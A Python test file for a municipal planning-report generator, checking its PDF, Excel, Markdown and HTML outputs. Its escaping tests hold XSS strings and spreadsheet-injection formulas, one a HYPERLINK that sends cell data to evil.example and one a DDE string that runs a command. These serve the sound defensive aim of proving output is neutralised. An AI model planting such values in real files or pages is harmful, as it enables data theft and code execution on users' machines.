"""The report's PDF, Excel, Markdown and charts, read back and checked."""

import re
import shutil
import subprocess
from collections import Counter
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from machiplan.reports.model import build_report
from machiplan.reports.writer import write_report


@pytest.fixture(scope="module")
def folder(sapporo, tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("formats")
    write_report(build_report(sapporo), out)
    return out


@pytest.fixture(scope="module")
def pdf(folder):
    return PdfReader(folder / "report.pdf")


def page_texts(pdf) -> list[str]:
    return [re.sub(r"\s+", "", page.extract_text()) for page in pdf.pages]


def test_pdf_is_a4_with_cover_summary_goals_and_appendix(pdf, sapporo):
    box = pdf.pages[0].mediabox
    assert (round(float(box.width) / 72 * 25.4), round(float(box.height) / 72 * 25.4)) == (210, 297)
    texts = page_texts(pdf)
    assert "第2期市民まちづくり活動促進基本計画" in texts[0] and "札幌市（011002）" in texts[0]
    assert "平成29年度(2017)" in texts[0]  # the evaluation year on the cover
    assert "評価の概要" in texts[1]
    whole = "".join(texts)
    for goal in sapporo.top_nodes:
        assert f"基本目標{goal.label}『{goal.name}』" in whole
    for ind in sapporo.indicators:
        assert re.sub(r"\s+", "", ind.name) in whole, ind.name
    assert "評価の方法" in whole and "survey_tolerance_points" in whole


def test_pdf_pages_have_numbers_and_running_headers(pdf):
    texts = page_texts(pdf)
    total = len(texts)
    assert total >= 10
    for number, text in enumerate(texts[1:], start=2):
        assert f"{number}/{total}" in text, number
        assert "第2期市民まちづくり活動促進基本計画" in text  # the running header
    assert "/" + str(total) not in texts[0]  # no number on the cover


def test_pdf_embeds_japanese_fonts_and_nothing_falls_back(pdf):
    fonts = set()
    for page in pdf.pages:
        resources = page["/Resources"]
        for font in resources.get("/Font", {}).values():
            font = font.get_object()
            descendant = font["/DescendantFonts"][0].get_object() if "/DescendantFonts" in font else font
            descriptor = descendant["/FontDescriptor"].get_object()
            assert any(k in descriptor for k in ("/FontFile", "/FontFile2", "/FontFile3")), font["/BaseFont"]
            fonts.add(str(font["/BaseFont"]).split("+", 1)[-1])
    assert "Noto-Sans-CJK-JP" in fonts
    # a glyph missing from Noto CJK would pull in another font; only Noto families may appear
    assert all(f.startswith("Noto-") for f in fonts), fonts


@pytest.mark.skipif(
    shutil.which("pdftoppm") is None, reason="pdftoppm (poppler-utils) is installed by bin/setup"
)
def test_pdf_pages_render(folder, tmp_path):
    subprocess.run(
        [
            "pdftoppm",
            "-r",
            "30",
            "-f",
            "1",
            "-l",
            "3",
            "-png",
            str(folder / "report.pdf"),
            str(tmp_path / "p"),
        ],
        check=True,
    )
    assert len(list(tmp_path.glob("p-*.png"))) == 3


def test_xlsx_sheets_and_numbers(folder):
    book = load_workbook(folder / "report.xlsx")
    assert book.sheetnames == ["概要", "基本目標1", "基本目標2", "基本目標3", "基本目標4", "データ", "評価"]
    goal1 = book["基本目標1"]
    cells = {(c.row, c.column): c for row in goal1.iter_rows() for c in row}
    label_rows = {c.value: c.row for (r, col), c in cells.items() if col == 1 and isinstance(c.value, str)}
    h25 = label_rows["H25実績 (2013)"]
    assert goal1.cell(h25, 2).value == 32.4 and goal1.cell(h25, 2).number_format == '0.0"%"'
    assert goal1.cell(h25, 4).value == 331 and goal1.cell(h25, 4).number_format == '#,##0"件"'
    assert goal1.cell(h25, 5).value == 496_000_000 and goal1.cell(h25, 5).number_format == '"約"#,##0"円"'
    h29 = label_rows["H29状況 (2017)"]
    assert goal1.cell(h29, 2).value == "今後調査"
    assert goal1.cell(h29, 4).value == 69 and "H29.9.15時点" in goal1.cell(h29, 4).comment.text
    merged = [str(r) for r in goal1.merged_cells.ranges]
    header = h25 - 2
    assert f"D{header}:E{header}" in merged  # 寄附による参加 spans two indicators
    assert goal1.freeze_panes == f"A{h25}"  # the header's rows, no column
    data = book["データ"]
    assert data.max_row - 1 == 75 + 20
    header_row = [c.value for c in data[1]]
    assert header_row[:3] == ["全国地方公共団体コード", "地方公共団体名", "計画コード"]
    values = [r for r in data.iter_rows(min_row=2, values_only=True) if r[4] == "2a" and r[10] == 2017]
    assert (
        values[0][12] == 2684
        and values[0][13].date().isoformat() == "2017-08-31"
        and values[0][18] is None  # 出典: the plan names none for Sapporo's figures
        and values[0][-1] == "observations.csv:26"  # 来歴: where machiplan read the figure
    )
    evaluation = book["評価"]
    assert evaluation.max_row - 1 == 21
    assert book["概要"].column_dimensions["C"].width > 20


def test_markdown(folder):
    text = (folder / "report.md").read_text(encoding="utf-8")
    assert text.startswith("# 第2期 市民まちづくり活動促進基本計画 進捗状況報告書")
    assert "## 基本目標3『交流』" in text
    assert "| H25実績 (2013) | 32.4% | 71.7% | 331件 | 約4億9,600万円 |" in text
    assert "- **後退** 身近に交流の機会があると感じている人の割合:" in text
    assert (
        "  - 地域勉強会の開催支援(29年9月\\~11月)" in text
    )  # a lone ~ would pair with the next as strikethrough
    assert "&lt;ビジョン編&gt;" in text  # an HTML reader would drop <ビジョン編> as an unknown tag


def test_every_chart_is_described_and_ids_are_unique(folder, sapporo):
    html = (folder / "index.html").read_text(encoding="utf-8")
    assert html.count("<svg ") == len(sapporo.indicators)
    assert html.count('role="img"') == len(sapporo.indicators)
    for ind in sapporo.indicators:
        assert f'<title id="chart-{ind.code}-title">{ind.name}</title>' in html
    ids = Counter(re.findall(r'\sid="([^"]+)"', html))
    assert [i for i, n in ids.items() if n > 1] == []
    assert html.count("<details><summary>グラフのデータ</summary>") == len(sapporo.indicators)


def chart_svg(html: str, code: str) -> str:
    start = html.index(f'aria-labelledby="chart-{code}-title')
    return html[start : html.index("</svg>", start)]


def test_chart_shows_gaps_interim_targets_and_period(folder):
    html = (folder / "index.html").read_text(encoding="utf-8")
    interaction = chart_svg(html, "3a")  # H26, H27 are —: a gap, not a line through zero
    actual = re.search(r'<g id="chart-3a-actual">(.*?)</g>', interaction, re.S).group(1)
    assert " L " not in re.search(r'd="([^"]+)"', actual).group(1)
    assert "値なし" in interaction
    registered = chart_svg(html, "2a")
    assert 'id="chart-2a-interim-2017"' in registered and "途中値 H29.8.31時点" in registered
    assert 'id="chart-2a-target-plan"' in registered and 'id="chart-2a-plan-period"' in registered
    npo = chart_svg(html, "2b")
    assert all(f'id="chart-2b-target-{h}"' in npo for h in ("plan", "action_plan", "vision"))
    assert "R4" in npo and "(H34)" in npo and "2022" in npo  # 和暦 with the Western year


def test_badge_colours_meet_wcag_aa_contrast():
    css = (
        Path(__file__).resolve().parents[2] / "src/machiplan/reports/templates/reports/common.css"
    ).read_text()

    def luminance(hex_colour: str) -> float:
        channels = [int(hex_colour[i : i + 2], 16) / 255 for i in (1, 3, 5)]
        linear = [c / 12.92 if c <= 0.03928 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
        return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]

    rules = re.findall(r"\.s-[a-z_, .-]+\{ background:(#[0-9a-f]{6}); color:(#[0-9a-f]{6}); \}", css)
    assert len(rules) == 6
    for background, colour in rules:
        lighter, darker = sorted((luminance(background), luminance(colour)), reverse=True)
        assert (lighter + 0.05) / (darker + 0.05) >= 4.5, (background, colour)


def test_english_everywhere(sapporo, tmp_path):
    write_report(build_report(sapporo, lang="en"), tmp_path, ["pdf", "xlsx", "md"])
    whole = "".join(page_texts(PdfReader(tmp_path / "report.pdf")))
    assert "Progressreport" in whole and "TheLatestActual" not in whole and "Regressing" in whole
    assert load_workbook(tmp_path / "report.xlsx").sheetnames == [
        "Summary",
        "Basic goal 1",
        "Basic goal 2",
        "Basic goal 3",
        "Basic goal 4",
        "Data",
        "Evaluation",
    ]
    assert "## Basic goal 1: 参加" in (tmp_path / "report.md").read_text(encoding="utf-8")


def test_charts_can_be_left_out(sapporo, tmp_path):
    write_report(build_report(sapporo, charts=False), tmp_path, ["html"])
    assert "<svg" not in (tmp_path / "index.html").read_text(encoding="utf-8")


PAYLOADS = (
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(2)">',
    "[x](javascript:alert(3))",
    "![y](javascript:alert(4)) <javascript:alert(5)> *b* _i_ `c` ~s~ | & &lt; \\",
    "line\n# injected heading\n<script>alert(6)</script>\n    code",
)


def _hostile(plan):
    """Every text of the plan that report.md shows, with a payload in it."""
    from dataclasses import replace
    from itertools import cycle

    it = cycle(PAYLOADS)
    nodes = tuple(
        replace(
            n,
            name=next(it),
            statement=next(it) if n.parent is None else n.statement,
            footnotes=(next(it), "- a list?", "1. a number?", "> a quote?", "=====", *n.footnotes)
            if n.parent is None
            else n.footnotes,
            initiatives=tuple(replace(i, text=next(it), facts=(next(it),)) for i in n.initiatives),
            narratives=tuple(
                replace(
                    narrative,
                    items=tuple(
                        replace(item, heading=next(it), text=next(it), bullets=(next(it),))
                        for item in narrative.items
                    ),
                )
                for narrative in n.narratives
            ),
        )
        for n in plan.nodes
    )
    indicators = tuple(
        replace(
            ind,
            name=next(it),
            category=next(it),
            note=next(it),
            observations=tuple(
                replace(o, breakdown=tuple((next(it), v) for _, v in o.breakdown), note=next(it))
                for o in ind.observations
            ),
        )
        for ind in plan.indicators
    )
    higher = tuple(
        replace(h, label=next(it), title=next(it), description=next(it)) for h in plan.higher_plans
    )
    return replace(
        plan,
        title=next(it),
        municipality=replace(plan.municipality, name=next(it)),
        nodes=nodes,
        indicators=indicators,
        higher_plans=higher,
    )


def _shown(markdown: str) -> str:
    """What a CommonMark reader shows of escaped text: backslash escapes and entities undone."""
    import html

    return html.unescape(re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", markdown))


def test_markdown_escapes_every_text_from_the_plan_and_staff(sapporo, tmp_path):
    write_report(build_report(_hostile(sapporo)), tmp_path, ["md"])
    text = (tmp_path / "report.md").read_text(encoding="utf-8")
    assert "<" not in text  # no raw HTML, no autolink: every < is &lt;
    assert not re.search(r"(?<!\\)[\[\]]", text)  # no link, no image
    assert "\\`c\\`" in text and "\\*b\\*" in text and "\\_i\\_" in text and "\\~s\\~" in text
    lines = text.splitlines()
    assert not any(line.startswith(("# injected", "    code", "<")) for line in lines)
    for footnote in (
        "\\- a list?",
        "1\\. a number?",
        "&gt; a quote?",
        "\\=====",
    ):  # never a list, quote, heading
        assert footnote in lines, footnote
    shown = " ".join(_shown(text).split())
    for payload in PAYLOADS:  # and every text reads as it was written
        assert " ".join(payload.split()) in shown, payload


FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1")


def _with_formulas(plan):
    """Text that a spreadsheet would run, in every text the report's CSV and XLSX carry, and a negative figure."""
    from dataclasses import replace
    from itertools import cycle

    it = cycle(FORMULAS)
    first = plan.indicators[0]
    observations = (replace(first.observations[0], value=Decimal("-3.5")), *first.observations[1:])
    indicators = tuple(
        replace(
            ind,
            name=next(it),
            category=next(it),
            unit=ind.unit,
            observations=tuple(
                replace(
                    o,
                    note=next(it),
                    source_text=next(it),
                    breakdown=tuple((next(it), v) for _, v in o.breakdown),
                )
                for o in (observations if ind is first else ind.observations)
            ),
            targets=tuple(replace(t, source_text=next(it)) for t in ind.targets),
        )
        for ind in plan.indicators
    )
    nodes = tuple(
        replace(n, name=next(it), statement=next(it), footnotes=(next(it),)) if n.parent is None else n
        for n in plan.nodes
    )
    return replace(plan, title=next(it), municipality=replace(plan.municipality, name=next(it)),
                   nodes=nodes, indicators=indicators)  # fmt: skip


def test_csv_and_xlsx_never_carry_a_formula(sapporo, tmp_path):
    import csv

    write_report(build_report(_with_formulas(sapporo)), tmp_path, ["csv", "xlsx"])
    for name in ("observations.csv", "targets.csv", "evaluations.csv"):
        rows = list(csv.reader((tmp_path / name).read_text(encoding="utf-8-sig").splitlines(keepends=True)))
        cells = [c for row in rows for c in row]
        assert not [
            c
            for c in cells
            if c[:1] in ("=", "+", "@", "\t") or (c[:1] == "-" and c[1:2] not in "0123456789")
        ], name
        assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[2] in cells, name
    observations = list(
        csv.reader((tmp_path / "observations.csv").read_text(encoding="utf-8-sig").splitlines())
    )
    assert observations[1][observations[0].index("値")] == "-3.5"  # a number is data, not a formula
    book = load_workbook(tmp_path / "report.xlsx")
    texts = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    assert set(FORMULAS) <= texts  # in a workbook, text stays exactly the text, as a string
    assert book["データ"]["M2"].value == -3.5
